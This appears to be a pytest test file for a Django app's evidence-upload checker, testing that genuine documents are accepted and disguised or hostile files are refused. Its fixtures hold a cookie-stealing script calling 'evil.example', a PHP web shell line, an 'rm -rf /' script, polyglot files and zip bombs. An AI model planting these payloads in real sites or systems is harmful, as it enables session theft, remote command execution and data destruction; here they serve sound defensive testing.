"""Files that come as evidence: honest ones are taken, hostile ones are refused, none is ever shown as a page."""

import io
import zipfile
import zlib
from datetime import date

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from odf.opendocument import OpenDocumentText
from openpyxl import Workbook
from pptx import Presentation
from pytest_django import Settings

from hanse.adoption import actions, evidence_files
from hanse.adoption.actions import Proof
from hanse.adoption.models import Entry, Evidence
from hanse.adoption.rules import Status
from hanse.alliances.models import Alliance
from hanse.history import Refused
from hanse.history.models import Reading
from tests import world

SCRIPT = b"<script>document.location='https://evil.example/'+document.cookie</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
RAR = b"Rar!\x1a\x07\x00"


def png() -> bytes:
    """A picture of one pixel."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4) + kind + content + zlib.crc32(kind + content).to_bytes(4)

    head = (1).to_bytes(4) + (1).to_bytes(4) + bytes([8, 0, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def container(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return stream.getvalue()


def made_by(document: "Workbook | OpenDocumentText | object") -> bytes:
    """What a program saves."""
    stream = io.BytesIO()
    document.save(stream)  # type: ignore[union-attr]
    return stream.getvalue()


def docx(**parts: bytes) -> bytes:
    return container({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"} | parts)


def claiming(content: bytes, size: int) -> bytes:
    """The same container, of which every part claims to unpack to so many bytes."""
    claimed = bytearray(content)
    for signature, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = claimed.find(signature)
        while at >= 0:
            claimed[at + place : at + place + 4] = size.to_bytes(4, "little")
            at = claimed.find(signature, at + 4)
    return bytes(claimed)


HONEST = {
    "minutes.pdf": PDF,
    "MINUTES.PDF": PDF,
    "minutes.docx": docx(),
    "table.xlsx": made_by(Workbook()),
    "deck.pptx": made_by(Presentation()),
    "letter.odt": made_by(OpenDocumentText()),
    "stamp.png": png(),
    "stamp.jpg": JPEG,
    "stamp.gif": GIF,
    "stamp.webp": b"RIFF\x1a\x00\x00\x00WEBPVP8 " + bytes(20),
    "stamp.tif": b"II*\x00" + bytes(40),
    "photo.heic": b"\x00\x00\x00\x18ftypheic" + bytes(20),
    "note.txt": "El alcalde firmó.".encode(),
    "note.md": b"# Signed",
    "utf16.csv": "Ciudad;Estado".encode("utf-16"),
    "latin.csv": "Bogotá;sí".encode("latin-1"),
}


@pytest.mark.parametrize("name", HONEST)
def test_documents_pictures_and_texts_are_taken(name: str) -> None:
    file = io.BytesIO(HONEST[name])

    evidence_files.check(file, name=name, size=len(HONEST[name]))

    assert file.read() == HONEST[name]


NOT_AS_NAMED = "is not what its name says"
NONE_OF_THEM = "is none of them"
HOSTILE = {
    "drawing.svg": (SVG, NONE_OF_THEM),
    "page.html": (HTML, NONE_OF_THEM),
    "page.xhtml": (HTML, NONE_OF_THEM),
    "minutes.pdf.exe": (b"MZ" + bytes(100), NONE_OF_THEM),
    "minutes.pdf.html": (HTML, NONE_OF_THEM),
    "minutes": (PDF, NONE_OF_THEM),
    "macro.docm": (docx(), NONE_OF_THEM),
    "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), NONE_OF_THEM),
    "archive.zip": (container({"a.txt": b"a"}), NONE_OF_THEM),
    "shortcut.lnk": (b"L\x00\x00\x00", NONE_OF_THEM),
    "acta\u202efdp.exe": (PDF, NONE_OF_THEM),
    "html.png": (HTML, NOT_AS_NAMED),
    "svg.png": (SVG, NOT_AS_NAMED),
    "svg.txt": (SVG, NOT_AS_NAMED),
    "html.csv": (b"\xef\xbb\xbf\n  " + HTML, NOT_AS_NAMED),
    "program.txt": (b"MZ\x90\x00" + bytes(100), NOT_AS_NAMED),
    "program.pdf": (b"MZ\x90\x00" + bytes(100), NOT_AS_NAMED),
    "shell.txt": (b"#!/bin/sh\nrm -rf /", NOT_AS_NAMED),
    "bytes.txt": (b"a\x00b", NOT_AS_NAMED),
    "pdf.txt": (PDF, NOT_AS_NAMED),
    "archive.pdf": (RAR, NOT_AS_NAMED),
    "cut.pdf": (PDF[:20], NOT_AS_NAMED),
    "late.pdf": (b"\n" * 40 + PDF, NOT_AS_NAMED),
    "page.pdf": (b"%PDF-1.7\n" + HTML + b"\n%%EOF", NOT_AS_NAMED),
    "page.gif": (b"GIF89a/*" + HTML + b"*/", NOT_AS_NAMED),
    "page.jpg": (JPEG[:-2] + b"\xff\xfe\x00\x60" + SCRIPT + b"\xff\xd9", NOT_AS_NAMED),
    "php.png": (png() + b"<?php system($_GET['c']);", NOT_AS_NAMED),
    "gifar.gif": (GIF + container({"Evil.class": b"\xca\xfe\xba\xbe"}), NOT_AS_NAMED),
    "pictured.png": (png() + container({"payload.exe": b"MZ"}), NOT_AS_NAMED),
    "archive.docx": (container({"payload.exe": b"MZ"}), NOT_AS_NAMED),
    "sheet.docx": (made_by(Workbook()), NOT_AS_NAMED),
    "picture.docx": (png(), NOT_AS_NAMED),
    "cut.docx": (docx()[:60], NOT_AS_NAMED),
    "macros.docx": (docx(**{"word/vbaProject.bin": b"x"}), "holds macros"),
    "macros.odt": (container({"content.xml": b"<a/>", "Basic/Standard/Module1.xml": b"x"}), "holds macros"),
    "script.ods": (container({"content.xml": b"<a/>", "Scripts/python/evil.py": b"x"}), "holds macros"),
    "bomb.docx": (docx(**{"word/media/a.bin": bytes(40_000_000)}), "unpacks to too much"),
    "claims.docx": (claiming(docx(), 2_500_000_000), "unpacks to too much"),
    "parts.docx": (docx(**{f"{number}": b"" for number in range(2_100)}), "unpacks to too much"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_with_a_reason(name: str) -> None:
    content, reason = HOSTILE[name]

    with pytest.raises(Refused, match=reason):
        evidence_files.check(io.BytesIO(content), name=name, size=len(content))


def test_locked_documents_are_refused() -> None:
    locked = bytearray(docx())
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(signature) + flags] |= 1

    with pytest.raises(Refused, match="protected by a password"):
        evidence_files.check(io.BytesIO(bytes(locked)), name="locked.docx", size=len(locked))


def test_ten_gigabytes_are_refused_by_what_is_claimed_and_never_unpacked() -> None:
    content = claiming(docx(a=b"a", b=b"b"), 2_500_000_000)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert sum(part.file_size for part in package.infolist()) == 10_000_000_000

    with pytest.raises(Refused, match="unpacks to too much"):
        evidence_files.check(io.BytesIO(content), name="minutes.docx", size=len(content))


def test_larger_files_than_25_megabytes_are_refused_unread() -> None:
    with pytest.raises(Refused, match="larger than 25 MB"):
        evidence_files.check(io.BytesIO(), name="minutes.pdf", size=evidence_files.LARGEST + 1)


@pytest.fixture
def latam(db: None, settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Alliance:
    settings.DATA_DIR = tmp_path_factory.mktemp("data")
    return world.alliance(cities=["Cali"])


def test_action_refuses_what_the_form_would(latam: Alliance) -> None:
    proofs = [Proof(file=ContentFile(HTML, name="minutes.png"))]

    with pytest.raises(Refused, match=NOT_AS_NAMED):
        actions.record_entry(
            member_city=latam.member_cities.get(),
            stage=world.stage(latam, "selection"),
            status=Status.COMPLETED,
            effective_on=date(2022, 1, 10),
            proofs=proofs,
            by=None,
        )

    assert (Entry.objects.count(), Evidence.objects.count()) == (0, 0)


def sent(client: Client, name: str, content: bytes) -> str:
    """The page that answers to a form with this file."""
    address = "/workspace/latam/cities/cali-co/stages/selection/"
    form = client.get(address).context["form"]
    fields = {
        "status": "completed",
        "effective_on": "2022-01-10",
        "seen": form["seen"].value(),
        "submission": form["submission"].value(),
    }
    return client.post(address, fields | {"file": SimpleUploadedFile(name, content)}, follow=True).content.decode()


def test_form_says_at_the_file_what_is_wrong_with_it(latam: Alliance) -> None:
    client = Client()
    client.force_login(world.secretariat(latam))

    page = sent(client, "minutes.png", HTML)

    assert "The file “minutes.png” is not what its name says." in page
    assert Evidence.objects.count() == 0


def test_taken_file_comes_back_byte_by_byte_as_a_download_under_a_clean_name(latam: Alliance) -> None:
    client = Client()
    client.force_login(world.secretariat(latam))

    sent(client, "acta del cañón.pdf", PDF)

    evidence = Evidence.objects.get()
    answer = client.get(evidence.get_absolute_url())
    assert b"".join(answer.streaming_content) == PDF  # type: ignore[attr-defined]
    assert answer.headers["Content-Disposition"] == "attachment; filename*=utf-8''acta%20del%20ca%C3%B1%C3%B3n.pdf"
    assert answer.headers["Content-Type"] == "application/octet-stream"
    assert str(evidence.file.name).rpartition("/")[2].startswith(evidence.sha256)  # nothing of the given name is a path


def test_download_leaves_a_reading_unless_the_file_is_ones_own(latam: Alliance) -> None:
    sender, reader, unknown = world.secretariat(latam), world.secretariat(latam), None
    for by in (sender, unknown):
        world.entry(latam.member_cities.get(), "selection", proofs=[Proof(file=ContentFile(PDF, name="a.pdf"))], by=by)

    for evidence in Evidence.objects.order_by("pk"):
        for who in (sender, reader):
            client = Client()
            client.force_login(who)
            assert client.get(evidence.get_absolute_url()).status_code == 200

    noted = Reading.objects.order_by("pk").values_list("what", "person_id", "about", "without_account")
    assert list(noted) == [
        ("adoption.evidence_exported", reader.pk, [sender.pk], 0),
        ("adoption.evidence_exported", sender.pk, [], 1),
        ("adoption.evidence_exported", reader.pk, [], 1),
    ]


def test_evidence_of_another_alliance_is_not_there(latam: Alliance) -> None:
    world.entry(latam.member_cities.get(), "selection", proofs=[Proof(file=ContentFile(PDF, name="a.pdf"))])
    client = Client()
    client.force_login(world.secretariat(world.alliance("japan", cities=["Kaga"])))

    assert client.get(Evidence.objects.get().get_absolute_url()).status_code == 404
